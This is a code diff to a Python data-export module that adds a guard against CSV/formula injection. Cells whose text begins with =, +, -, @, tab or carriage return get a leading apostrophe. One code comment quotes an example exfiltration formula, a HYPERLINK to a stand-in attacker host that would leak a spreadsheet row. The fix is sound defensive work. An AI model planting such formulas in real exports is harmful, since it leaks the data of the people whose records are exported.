@@ -18,6 +18,10 @@ from cahier.editions.selectors import edition_current, initiatives_with_number
 
 LIST_SEPARATOR = " | "
 
+# A spreadsheet runs a cell starting with one of these as a formula (OWASP « CSV injection »):
+# `=HYPERLINK("http://evil.example/?"&A2)` would leak the row, `@SUM(…)`, `+1+2`, `-2+3` compute.
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
 LICENCE = {
     "name": "Licence Ouverte / Open Licence version 2.0",
     "id": "etalab-2.0",
@@ -192,10 +196,20 @@ def csv_row(record: dict) -> dict:
     return row
 
 
+def spreadsheet_safe(value):
+    """*value* as a CSV cell that a spreadsheet shows as text: a text starting with a formula
+    trigger gets a leading « ' » (OWASP), « - liste » included, since a spreadsheet cannot
+    tell « -3 jeunes » from « -3+A1 ». Numbers are left alone. The JSON stays exact, and the
+    XLSX needs none of this: its cells are typed, text is never a formula there."""
+    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
+        return "'" + value
+    return value
+
+
 def to_csv(records: Iterable[dict]) -> str:
     buffer = io.StringIO()
     writer = csv.DictWriter(buffer, fieldnames=CSV_COLUMNS, lineterminator="\n")
     writer.writeheader()
     for record in records:
-        writer.writerow(csv_row(record))
+        writer.writerow({name: spreadsheet_safe(value) for name, value in csv_row(record).items()})
     return buffer.getvalue()
